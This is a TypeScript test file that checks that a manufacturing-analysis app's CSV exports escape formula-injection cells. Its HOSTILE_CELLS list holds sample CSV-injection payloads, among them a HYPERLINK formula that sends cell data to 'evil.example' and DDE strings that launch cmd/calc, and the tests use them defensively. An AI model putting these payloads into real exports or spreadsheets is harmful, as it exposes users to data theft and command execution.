import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { escapedText, FORMULA_ESCAPE, writeCsv } from './write-csv';
import { chartCsv, CHART_CSV_HEADER } from './chart-csv';
import { aperturesCsv, APERTURE_CSV_HEADER } from './apertures-csv';
import { readCsvRows } from '$lib/stencil/csv-rows';
import { runsToCsv, type RunView } from '$lib/server/printlog/print-runs';
import {
	csvTable,
	kindColumns,
	wipeColumns,
	worstPadColumns
} from '../../routes/(app)/analysis/export-columns';

/**
 * Cells an attacker would type into a name, serial or note (OWASP "CSV Injection": formulas start
 * with = + - @, and tab / carriage return can hide the start), plus cells that break naive CSV.
 */
export const HOSTILE_CELLS = [
	'=HYPERLINK("http://evil.example/?"&A1,"open")',
	'=1+2',
	'+1+2',
	'-1+2',
	"-2+3*cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+2',
	'\r=1+2',
	'=cmd\n|calc',
	'plain text',
	'line one\nline two',
	'line one\r\nline two',
	'lone\rcarriage',
	'say "hello", then, leave',
	'"quoted"',
	'trailing space ',
	' leading space',
	"'already apostrophed",
	'semicolon; comma, tab\tinside',
	'µm ✓ 漢字'
];

/** Parse as a spreadsheet or papaparse would, keeping every cell as text. */
function readBack(csv: string): string[][] {
	expect(csv.endsWith('\r\n')).toBe(true);
	const parsed = Papa.parse<string[]>(csv.slice(0, -2), {
		header: false,
		newline: '\r\n',
		delimiter: ','
	});
	expect(parsed.errors).toEqual([]);
	return parsed.data;
}

describe('writeCsv, the one CSV writer', () => {
	it('reads back every hostile cell as the same text, formula-like ones with the documented prefix', () => {
		const csv = writeCsv([['cell'], ...HOSTILE_CELLS.map((c) => [c])]);
		const rows = readBack(csv);
		expect(rows).toHaveLength(HOSTILE_CELLS.length + 1);
		HOSTILE_CELLS.forEach((cell, i) =>
			expect(rows[i + 1], JSON.stringify(cell)).toEqual([escapedText(cell)])
		);
	});

	it('escapes exactly the cells that start with = + - @ tab or CR (even with a line break later)', () => {
		for (const c of ['=1', '+1', '-a', '@a', '\t1', '\r1', '=cmd\n|calc', '-1+2', '-', '--1']) {
			expect(escapedText(c), JSON.stringify(c)).toBe(FORMULA_ESCAPE + c);
		}
		for (const c of ['a=1', ' =1', "'=1", '1', 'x\n=1', '-12.5', '-1e-3', '-100 50;200 -50']) {
			expect(escapedText(c), JSON.stringify(c)).toBe(c);
		}
	});

	it('quotes only when needed, writes numbers as numbers and ends every row with CRLF', () => {
		expect(
			writeCsv([
				['a', 'b'],
				[1.5, -2],
				['x,y', null],
				[new Date(Date.UTC(2026, 0, 2)), true]
			])
		).toBe('a,b\r\n1.5,-2\r\n"x,y",\r\n2026-01-02T00:00:00.000Z,true\r\n');
		expect(writeCsv([['=1']])).toBe(`"'=1"\r\n`);
		expect(writeCsv([[Number.NaN, Number.POSITIVE_INFINITY]])).toBe(',\r\n');
	});
});

describe('every export goes through it', () => {
	it('chart CSV (browser download): hostile board serials read back as text', () => {
		const points = HOSTILE_CELLS.map((label, index) => ({
			index,
			label,
			location: -0.5 + index,
			dispersion: index === 0 ? null : 0.25,
			movingRange: null,
			size: 5,
			boardId: null,
			at: new Date(Date.UTC(2026, 2, 1, 6, index)),
			excluded: index === 2
		}));
		const rows = readBack(chartCsv({ points, violations: [] }));
		expect(rows[0]).toEqual([...CHART_CSV_HEADER]);
		HOSTILE_CELLS.forEach((label, i) => {
			expect(rows[i + 1][1], JSON.stringify(label)).toBe(escapedText(label));
			expect(Number(rows[i + 1][4])).toBe(-0.5 + i);
		});
	});

	it('aperture CSV: hostile refdes, pad and stencil name stay in their cells; the file imports again', () => {
		const name = 'Top=HYPERLINK("x")\r\n"rev", B';
		const apertures = HOSTILE_CELLS.map((cell, i) => ({
			refdes: cell,
			pad: `=${i}`,
			shape: 'rect' as const,
			lengthUm: 300,
			widthUm: 280,
			xUm: -1000 * (i + 1),
			yUm: 50,
			rotationDeg: 0,
			thicknessUm: 127,
			areaUm2: 84000,
			perimeterUm: 1160,
			areaRatio: 84000 / (1160 * 127),
			aspectRatio: 280 / 127,
			volumeUm3: 84000 * 127,
			maxPassingThicknessUm: 120,
			status: 'fail' as const,
			reasons: [{ message: '-area ratio below 0.66' }]
		}));
		const csv = aperturesCsv({
			stencil: { name, revision: 'A', thicknessUm: 127, technology: 'laser-stainless' },
			thresholds: { minAreaRatio: 0.66, minAspectRatio: 1.5 },
			apertures: apertures as never
		});
		const rows = readBack(csv);
		expect(rows[0]).toHaveLength(1);
		expect(rows[0][0]).toContain(name);
		expect(rows[1]).toEqual(APERTURE_CSV_HEADER);
		expect(rows).toHaveLength(2 + HOSTILE_CELLS.length);
		HOSTILE_CELLS.forEach((cell, i) => {
			const row = rows[i + 2];
			expect(row[0], JSON.stringify(cell)).toBe(escapedText(cell));
			expect(row[1]).toBe(`'=${i}`);
			expect(Number(row[7])).toBe(-1000 * (i + 1));
			expect(row[19]).toBe("'-area ratio below 0.66");
		});
		// The stencil importer skips the comment row and finds one row per aperture.
		const read = readCsvRows(csv, 1000);
		expect('rows' in read && read.rows.length).toBe(HOSTILE_CELLS.length);
	});

	it('print-run CSV: hostile serials, operators, lots and notes read back as text', () => {
		const runs = HOSTILE_CELLS.map(
			(cell, i) =>
				({
					id: i + 1,
					line: 'SMT1',
					product: 'FW-PB100',
					recipeVersion: 3,
					stencil: cell,
					stencilRevision: 'A',
					pasteLot: cell,
					bladeCode: 'B1',
					boardSerial: cell,
					operator: cell,
					startedAt: new Date(Date.UTC(2026, 0, 5, 6)),
					endedAt: null,
					boardsPrinted: 40,
					ambientTempC: 22.5,
					relativeHumidityPct: 45,
					parameters: { squeegeeAngleDeg: -60, pasteType: cell },
					deviations: [{ parameter: 'squeegeeAngleDeg', value: 65, reason: cell }],
					warnings: [cell],
					corrections: 0
				}) as unknown as RunView
		);
		const rows = readBack(runsToCsv(runs, ['squeegeeAngleDeg', 'pasteType']));
		const header = rows[0];
		const at = (name: string) => header.indexOf(name);
		HOSTILE_CELLS.forEach((cell, i) => {
			const row = rows[i + 1];
			for (const column of [
				'stencil',
				'pasteLot',
				'boardSerial',
				'operator',
				'pasteType',
				'warnings'
			]) {
				expect(row[at(column)], `${column} ${JSON.stringify(cell)}`).toBe(escapedText(cell));
			}
			expect(row[at('squeegeeAngleDeg')]).toBe('-60');
			expect(row[at('deviations')]).toBe(`squeegeeAngleDeg=65 (${cell})`);
		});
	});

	it('analysis CSV, failures by kind: hostile kinds read back as text, shares as numbers', () => {
		const kinds = HOSTILE_CELLS.map((kind, i) => ({
			kind,
			label: `=${kind}`,
			fails: i,
			share: -0.5 + i / 100,
			cumulativeShare: i / 100
		}));
		const table = csvTable(kindColumns, kinds);
		const rows = readBack(writeCsv([table.header, ...table.rows]));
		expect(rows[0]).toEqual(['kind', 'fails', 'share', 'cumulative_share']);
		HOSTILE_CELLS.forEach((kind, i) => {
			const row = rows[i + 1];
			expect(row[0], JSON.stringify(kind)).toBe(escapedText(kind));
			expect(row.slice(1).map(Number)).toEqual([i, -0.5 + i / 100, i / 100]);
		});
	});

	it('analysis CSV, pads failing most: hostile refdes and pad names stay in their cells', () => {
		const pads = HOSTILE_CELLS.map((cell, i) => ({
			refdes: cell,
			pad: `-${cell}`,
			panelIndex: i,
			xUm: 0,
			yUm: 0,
			inspected: 100,
			fails: 100 - i,
			warns: 0,
			failRate: (100 - i) / 100
		}));
		const table = csvTable(worstPadColumns, pads);
		const rows = readBack(writeCsv([table.header, ...table.rows]));
		expect(rows[0]).toEqual(['refdes', 'pad', 'panel', 'fails', 'fail_rate']);
		expect(rows).toHaveLength(HOSTILE_CELLS.length + 1);
		HOSTILE_CELLS.forEach((cell, i) => {
			const row = rows[i + 1];
			expect(row[0], JSON.stringify(cell)).toBe(escapedText(cell));
			expect(row[1], JSON.stringify(cell)).toBe(escapedText(`-${cell}`));
			expect(row.slice(2).map(Number)).toEqual([i, 100 - i, (100 - i) / 100]);
		});
	});

	it('analysis CSV, prints since wipe: numbers only; negative means stay numbers, missing ones blank', () => {
		const groups = [
			{ printsSinceWipe: 0, boards: 12, teMean: 0.93, volumeMean: 101.25 },
			{ printsSinceWipe: 1, boards: 3, teMean: -0.01, volumeMean: -1e-3 },
			{ printsSinceWipe: 2, boards: 1, teMean: null, volumeMean: null }
		];
		const table = csvTable(wipeColumns, groups);
		const csv = writeCsv([table.header, ...table.rows]);
		expect(readBack(csv)).toEqual([
			['prints_since_wipe', 'boards', 'te_mean', 'volume_mean_pct'],
			['0', '12', '0.93', '101.25'],
			['1', '3', '-0.01', '-0.001'],
			['2', '1', '', '']
		]);
		expect(csv).not.toContain("'");
	});
});
